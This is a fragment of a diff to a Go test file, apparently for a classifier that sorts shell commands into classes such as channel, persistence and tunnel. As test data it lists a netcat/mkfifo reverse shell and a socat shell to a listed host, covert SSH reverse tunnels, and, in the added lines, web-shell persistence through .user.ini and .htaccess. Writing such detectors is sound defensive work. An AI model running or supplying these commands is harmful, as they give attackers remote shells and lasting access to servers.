@@ -28,6 +28,8 @@ func TestClassify(t *testing.T) {
 		{"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", classChannel},
 		{"socat tcp:10.0.0.1:4444 exec:sh", classChannel},
 		{"crontab -", classPersistence},
+		{"printf 'auto_prepend_file=/srv/www/cache/.s.php\\n' > /srv/www/.user.ini", classPersistence},
+		{"echo 'AddType application/x-httpd-php .jpg' >> uploads/.htaccess", classPersistence},
 		{"setsid -f ssh -i /var/tmp/.k -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -N -R 127.0.0.1:18070:127.0.0.1:8070 u@127.0.0.1", classTunnel},
 		{"ssh -fNL 5432:db:5432 jump", classTunnel},
 		{"ssh -D1080 -q u@h", classTunnel},
